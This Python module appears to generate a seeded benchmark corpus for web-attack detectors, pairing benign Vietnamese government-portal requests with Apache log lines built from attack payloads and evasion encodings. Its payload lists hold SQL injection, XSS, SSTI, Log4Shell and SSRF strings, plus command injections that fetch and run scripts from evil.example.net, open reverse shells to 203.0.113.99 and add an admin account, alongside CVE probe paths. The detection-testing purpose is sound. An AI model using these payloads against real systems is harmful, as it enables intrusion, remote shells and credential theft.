# ruff: noqa: E501  (user agents and request lines are data: kept whole)
"""Seeded corpora for the web benchmark: benign Vietnamese public-service portal traffic and
attack requests of public attack classes, as Apache combined access-log lines.

The payloads are written for this project from the classes OWASP, CRS and public references
describe (no list is copied): each class has a few base payloads, and every request applies one
of the evasions attackers use (URL encoding, double encoding, + for spaces, case changes, inline
comments, HTML entities), so the detectors see what a WAF sees.
"""

from __future__ import annotations

import base64
import json
import random
import unicodedata
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

TZ = timezone(timedelta(hours=7))
START = datetime(2026, 11, 24, 8, 0, tzinfo=TZ)
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/131.0.242 Chrome/125.0.6422.176 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.107 Mobile Safari/537.36 Zalo android/12110510 ZaloLanguage/vi",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
]
PREFIXES = ["113.160", "14.232", "171.224", "27.72", "42.112", "123.24", "116.110", "1.52"]

# --- benign --------------------------------------------------------------------------------------

SEARCHES = [
    "thủ tục cấp giấy phép xây dựng",
    "đăng ký kinh doanh hộ cá thể",
    "cấp đổi căn cước công dân",
    "Nghị định 13/2023/NĐ-CP bảo vệ dữ liệu cá nhân",
    "quyết định 1234/QĐ-UBND ngày 12/05/2024",
    '"quyết định" giao đất',
    "hồ sơ đất đai - mẫu 01",
    "lịch tiếp công dân tháng 11",
    "O'Neil Trading Co., Ltd",
    "Công ty TNHH Hoàng Long & Cộng sự",
    "giá đất 2024 (bảng giá)",
    "trường THPT Lê Quý Đôn",
    "kết quả thi tuyển công chức 2024",
    "select trường mầm non",
    "union các hội phụ nữ",
    "thông báo số 45/TB-UBND",
    "bảo hiểm y tế hộ gia đình 100%",
    "địa chỉ: số 12/3 ngõ 45 đường Trần Phú",
    "học bổng 'Vừ A Dính'",
    "tra cứu mã số thuế 0101234567",
    "script kịch bản lễ hội",
    "<b>in đậm</b> hướng dẫn",
    "1=1 trong toán lớp 1",
    "C:\\Documents\\ho-so",
    "chuyển đổi số -- năm 2025",
    "điện thoại 0912.345.678 / 024-3825-1234",
    "a & b | c",
]
FILES = [
    "Quyết định số 123-QĐ-UBND.pdf",
    "Mẫu đơn đề nghị (bản mới).docx",
    "Báo cáo tổng kết năm 2024.pdf",
    "Danh sách trúng tuyển đợt 1.xlsx",
    "Hướng dẫn nộp hồ sơ trực tuyến.pdf",
    "Tờ khai 01/TK-ĐKT.doc",
]
NAMES = [
    "Nguyễn Văn An",
    "Trần Thị Bích Ngọc",
    "Lê Hoàng O'Brien",
    'Phạm "Tí" Minh',
    "Đỗ Thị Hồng-Nhung",
    "Hoàng Anh Tuấn Jr.",
    "Vũ Ngọc Ánh (Bé)",
]
SLUGS = [
    "thong-bao-lich-tiep-cong-dan",
    "ubnd-tinh-hop-phien-thuong-ky",
    "huong-dan-nop-ho-so-truc-tuyen",
    "ket-qua-giai-quyet-thu-tuc-hanh-chinh-quy-3",
    "chuyen-doi-so-nam-2025",
    "phong-chong-lua-dao-qua-mang",
]
STATIC = [
    "/static/js/app.min.js?v=2.4.1",
    "/static/css/main.css?v=2.4.1",
    "/images/banner-tet-2026.jpg",
    "/favicon.ico",
    "/fonts/Roboto-Regular.woff2",
    "/images/logo.svg",
]


def _text(rng: random.Random, s: str) -> str:
    """Vietnamese text as browsers send it: NFC mostly, NFD from some phones and copy-paste."""
    return unicodedata.normalize("NFD" if rng.random() < 0.25 else "NFC", s)


def _q(rng: random.Random, params: list[tuple[str, str]]) -> str:
    plus = rng.random() < 0.5  # forms encode spaces as +, scripts as %20
    out = []
    for k, v in params:
        enc = quote(v, safe="") if not plus else quote(v.replace(" ", "+"), safe="+")
        out.append(f"{k}={enc}")
    return "&".join(out)


def _tracking(rng: random.Random) -> list[tuple[str, str]]:
    pick = rng.random()
    if pick < 0.15:
        return [
            ("utm_source", "facebook"),
            ("utm_medium", "social"),
            ("utm_campaign", "dvc-2026_t11"),
        ]
    if pick < 0.25:
        return [
            ("fbclid", "IwAR" + base64.urlsafe_b64encode(rng.randbytes(30)).decode().rstrip("="))
        ]
    if pick < 0.30:
        return [
            ("gclid", "Cj0KCQiA" + base64.urlsafe_b64encode(rng.randbytes(24)).decode().rstrip("="))
        ]
    return []


def _jwt(rng: random.Random) -> str:
    def part(d: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")

    sig = base64.urlsafe_b64encode(rng.randbytes(32)).decode().rstrip("=")
    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'sub': str(rng.randint(1, 99999)), 'exp': 1795000000})}.{sig}"


def benign_request(rng: random.Random) -> tuple[str, str, int]:
    """(method, target, status) of one ordinary request to a provincial portal."""
    k = rng.random()
    if k < 0.22:
        return "GET", rng.choice(STATIC), rng.choice([200, 200, 304])
    if k < 0.40:
        q = [("q", _text(rng, rng.choice(SEARCHES))), ("page", str(rng.randint(1, 40)))]
        if rng.random() < 0.4:
            q += [
                ("sort", rng.choice(["ngay_ban_hanh", "-luot_xem", "ten"])),
                ("order", rng.choice(["asc", "desc"])),
            ]
        return "GET", "/tim-kiem?" + _q(rng, q + _tracking(rng)), 200
    if k < 0.52:
        slug = rng.choice(SLUGS)
        q = _tracking(rng)
        return (
            "GET",
            f"/tin-tuc/{slug}-{rng.randint(1000, 99999)}.html" + ("?" + _q(rng, q) if q else ""),
            200,
        )
    if k < 0.60:
        name = _text(rng, rng.choice(FILES))
        return (
            "GET",
            "/uploads/2024/" + f"{rng.randint(1, 12):02d}/" + quote(name),
            rng.choice([200, 200, 206]),
        )
    if k < 0.70:
        code = f"000.00.{rng.randint(10, 99)}.H56-{rng.randint(240101, 241231)}-{rng.randint(1, 9999):04d}"
        q = [
            ("ma_ho_so", code),
            ("cccd", f"0{rng.randint(10, 96)}{rng.randint(0, 3)}{rng.randint(10**7, 10**8 - 1)}"),
        ]
        return "GET", "/dich-vu-cong/tra-cuu-ho-so?" + _q(rng, q), 200
    if k < 0.76:
        flt = json.dumps(
            {
                "linhVuc": rng.choice(["dat-dai", "xay-dung", "tu-phap"]),
                "tuNgay": "2024-01-01",
                "denNgay": f"{rng.randint(1, 28):02d}/{rng.randint(1, 12):02d}/2024",
                "coQuan": ["UBND", "Sở TN&MT"],
            },
            ensure_ascii=False,
        )
        return (
            "GET",
            "/api/van-ban?"
            + _q(rng, [("filter", flt), ("limit", "20"), ("offset", str(rng.randint(0, 400)))]),
            200,
        )
    if k < 0.82:
        q = [
            ("ho_ten", _text(rng, rng.choice(NAMES))),
            ("email", f"nguyen.van.{rng.randint(1, 999)}@gmail.com"),
            ("sdt", f"09{rng.randint(10**7, 10**8 - 1)}"),
            (
                "dia_chi",
                _text(
                    rng,
                    f"Số {rng.randint(1, 200)}/{rng.randint(1, 30)} ngõ {rng.randint(1, 99)}, đường Lê Lợi, P. 4",
                ),
            ),
        ]
        return "POST", "/dich-vu-cong/dang-ky?" + _q(rng, q), rng.choice([200, 302])
    if k < 0.88:
        tok = base64.b64encode(rng.randbytes(rng.choice([16, 24, 33]))).decode()
        return (
            "GET",
            "/xac-thuc/callback?"
            + _q(
                rng, [("token", tok), ("state", _jwt(rng)), ("redirect", "/dich-vu-cong/ca-nhan")]
            ),
            302,
        )
    if k < 0.93:
        return (
            "GET",
            f"/van-ban/{rng.randint(1, 999)}/{rng.randint(2015, 2025)}/QĐ-UBND".replace(
                "Đ", "%C4%90"
            ),
            200,
        )
    if k < 0.99:
        return (
            "GET",
            rng.choice(["/", "/gioi-thieu", "/lien-he", "/so-do-cong-thong-tin", "/dich-vu-cong/"]),
            200,
        )
    return "GET", f"/tin-tuc/bai-viet-cu-{rng.randint(1, 500)}.html", 404


# --- attacks -------------------------------------------------------------------------------------

ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "1 OR 1=1",
        "' OR 1=1-- -",
        "5' AND SLEEP(5)#",
        "1 UNION SELECT NULL,NULL,version()--",
        "0' UNION ALL SELECT user_name,pass FROM nguoi_dung-- ",
        "1;DROP TABLE ho_so--",
        "admin'--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- ",
        "1 AND 1=CONVERT(int,@@version)",
        "1'; WAITFOR DELAY '0:0:5'--",
        "-1' UniOn SeLeCt 1,2,group_concat(table_name) FrOm information_schema.tables-- ",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(3))x)-- ",
        "1) OR (1=1",
        "1' ORDER BY 9-- ",
        "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64",
        "1' || pg_sleep(4)--",
        "1; EXEC master..xp_cmdshell 'whoami'--",
        "' or ''='",
        "1 AND 5678=(SELECT 5678 FROM DUAL)",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(document.cookie)",
        '"><script>confirm(1)</script>',
        "<body onload=prompt(1)>",
        '<iframe src="javascript:alert(1)"></iframe>',
        "'\"><img src=1 onerror=prompt(1)>",
        "<details open ontoggle=alert(1)>",
        '<a href="javascript&colon;alert(1)">x</a>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
        "<input autofocus onfocus=alert(1)>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "</title><script src=//evil.example.net/x.js></script>",
        "<marquee onstart=alert(1)>",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "../../../../../../etc/shadow",
        "..%2f..%2f..%2fetc%2fhosts",
        "/../../../../boot.ini",
        "../../WEB-INF/web.xml",
        "../../../../etc/passwd%00.jpg",
        "..;/..;/..;/etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    ],
    "lfi": [
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "/proc/self/environ",
        "expect://id",
        "phar://uploads/avatar.jpg/x",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
        "/var/log/apache2/access.log",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "zip://uploads/a.zip%23shell.php",
        "php://input",
    ],
    "rfi": [
        "http://evil.example.net/shell.txt?",
        "https://203.0.113.99/c99.txt",
        "ftp://198.51.100.77/x.php",
        "http://evil.example.net/r57.txt%00",
        "//evil.example.net/inc.txt?",
    ],
    "cmdi": [
        ";id",
        "| cat /etc/passwd",
        "`whoami`",
        "$(curl -s http://evil.example.net/a.sh|sh)",
        "&& ping -c 3 127.0.0.1",
        "|| nc -e /bin/sh 203.0.113.99 4444",
        "; wget http://evil.example.net/x -O /tmp/x; chmod +x /tmp/x",
        "& ipconfig /all",
        "| powershell -nop -w hidden -c iex(iwr http://evil.example.net/a)",
        "\nid",
        ";cat${IFS}/etc/passwd",
        "; bash -i >& /dev/tcp/203.0.113.99/4444 0>&1",
        "& net user admin P@ss /add",
        "| type C:\\Windows\\win.ini",
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "#{7*7}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "{{self._TemplateReference__context.cycler}}",
    ],
    "jndi": [
        "${jndi:ldap://evil.example.net/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example.net/x}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example.net/o}",
        "${jndi:dns://evil.example.net}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example.net/p}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://x.example.net/}",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.0.0.1:8080/manager/html",
        "http://[::1]:6379/",
        "http://0x7f000001/",
        "http://2130706433/admin",
        "gopher://127.0.0.1:6379/_INFO",
        "dict://127.0.0.1:11211/stat",
        "http://100.100.100.200/latest/meta-data/",
        "http://localhost:2375/containers/json",
    ],
}
PARAMS = {
    "sqli": ["id", "ma_ho_so", "page", "cat"],
    "xss": ["q", "ho_ten", "ref"],
    "traversal": ["file", "path", "tai_lieu"],
    "lfi": ["page", "file", "template"],
    "rfi": ["page", "include", "url"],
    "cmdi": ["host", "ip", "cmd"],
    "ssti": ["name", "q", "template"],
    "jndi": ["q", "x"],
    "ssrf": ["url", "image", "callback", "redirect"],
}
PATHS = [
    "/tra-cuu",
    "/tim-kiem",
    "/dich-vu-cong/ho-so",
    "/index.php",
    "/api/van-ban",
    "/download.jsp",
    "/page.aspx",
]
SCANNERS = [
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007401)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "feroxbuster/2.10.4",
    "WhatWeb/0.5.5",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nessus)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix",
]
SCAN_PATHS = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpinfo.php",
    "/server-status",
    "/backup.sql",
    "/admin/",
    "/config.php.bak",
    "/.DS_Store",
    "/actuator/env",
]
CVE_PROBES = [
    "/api/jsonws/expandocolumn/update-column",
    "/__",
    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
    "/api/index.php/v1/config/application?public=true",
    "/api/index.php/v1/users?public=true",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/%24%7B%28%23_memberAccess%3D@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS%29%7D/index.action",
    "/console/images/%252e%252e%252fconsole.portal",
    "/console/css/%2e%2e%2fconsole.portal",
    "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
    "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
    "/_ignition/execute-solution",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/?class.module.classLoader.URLs%5B0%5D=0",
    "/vpn/../vpns/cfg/smb.conf",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    "/autodiscover/autodiscover.json?@example.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@example.com",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
]
CVE_METHODS = {
    "/api/jsonws/expandocolumn/update-column": "POST",
    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx": "POST",
    "/_ignition/execute-solution": "POST",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php": "POST",
}
CVE_STATUS = {"/__": 404}


def evade(rng: random.Random, payload: str) -> str:
    """The payload as a query value after one evasion: plain encoding, double encoding, + for
    spaces, random case, inline comments (SQL) or HTML entities."""
    k = rng.randrange(6)
    if k == 1:
        return quote(quote(payload, safe=""), safe="")
    if k == 2:
        return quote(payload.replace(" ", "+"), safe="+")
    if k == 3:
        return quote(
            "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in payload), safe=""
        )
    if k == 4 and " " in payload:
        return quote(payload.replace(" ", "/**/"), safe="")
    if k == 5:
        return quote(
            payload.replace("<", "&lt;").replace(">", "&gt;") if rng.random() < 0.3 else payload,
            safe="/:",
        )
    return quote(payload, safe="")


def attack_request(rng: random.Random, cls: str) -> tuple[str, str, int, str | None]:
    """(method, target, status, user agent or None for a browser's) of one attack of ``cls``."""
    if cls == "scanner":
        return "GET", rng.choice(SCAN_PATHS), rng.choice([404, 403, 200]), rng.choice(SCANNERS)
    if cls == "cve":
        target = rng.choice(CVE_PROBES)
        return (
            CVE_METHODS.get(target, "GET"),
            target,
            CVE_STATUS.get(target, rng.choice([200, 404, 500])),
            "python-requests/2.31.0",
        )
    value = evade(rng, rng.choice(ATTACKS[cls]))
    if cls == "jndi" and rng.random() < 0.4:  # Log4Shell sprayed in the user agent too
        return "GET", "/", 200, rng.choice(ATTACKS["jndi"])
    return (
        rng.choice(["GET", "GET", "POST"]),
        f"{rng.choice(PATHS)}?{rng.choice(PARAMS[cls])}={value}",
        rng.choice([200, 500, 403]),
        None,
    )


CLASSES = [*ATTACKS, "scanner", "cve"]


def combined(ip: str, when: datetime, method: str, target: str, status: int, ua: str) -> str:
    ua = ua.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    target = (
        target.replace("\\", "%5C").replace('"', "%22").replace("\n", "%0A").replace(" ", "%20")
    )
    return f'{ip} - - [{when.strftime("%d/%b/%Y:%H:%M:%S %z")}] "{method} {target} HTTP/1.1" {status} {len(target) * 7} "-" "{ua}"'


def benign_lines(n: int, seed: int = 17) -> list[str]:
    rng = random.Random(seed)
    clients = [
        f"{rng.choice(PREFIXES)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        for _ in range(max(50, n // 60))
    ]
    out = []
    for i in range(n):
        method, target, status = benign_request(rng)
        when = START + timedelta(seconds=i * 3600 / n)
        out.append(
            combined(rng.choice(clients), when, method, target, status, rng.choice(BROWSERS))
        )
    return out


def attack_lines(per_class: int, seed: int = 31) -> dict[str, list[str]]:
    """Each attack from its own client address: the per-request rules are measured, not the
    per-source correlations (a burst from one address would be caught by those anyway)."""
    rng = random.Random(seed)
    out: dict[str, list[str]] = {}
    n = 0
    for cls in CLASSES:
        lines = []
        for _ in range(per_class):
            method, target, status, ua = attack_request(rng, cls)
            n += 1
            ip = f"203.0.{113 + n // 250}.{n % 250 + 1}"
            lines.append(
                combined(
                    ip,
                    START + timedelta(seconds=n * 7),
                    method,
                    target,
                    status,
                    ua or rng.choice(BROWSERS[:5]),
                )
            )
        out[cls] = lines
    return out
